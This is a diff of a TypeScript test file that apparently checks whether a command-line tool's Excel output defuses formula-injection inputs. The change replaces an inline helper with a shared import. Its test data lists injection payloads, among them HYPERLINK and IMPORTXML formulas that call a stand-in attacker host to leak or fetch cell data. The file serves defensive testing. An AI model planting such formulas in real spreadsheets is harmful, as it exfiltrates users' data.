@@ -7,15 +7,9 @@ import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import ExcelJS from 'exceljs';
-import { runCli } from '../../src/local/cli';
+import { cli } from '../support/cli';
 
 const ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击领取")', '=IMPORTXML("http://evil.example","//a")', '@SUM(1)', '+86 138 0000 0000', '-2+3'];
-
-async function cli(...argv: string[]) {
-  const err: string[] = [];
-  const code = await runCli(argv, { stdout: () => undefined, stderr: (t) => err.push(t) });
-  return { code, stderr: err.join('\n') };
-}
 
 /** Every cell of every sheet that holds one of the attack texts, and whether it is a formula there. */
 async function attackCells(file: string): Promise<Array<{ sheet: string; text: string; formula: boolean }>> {
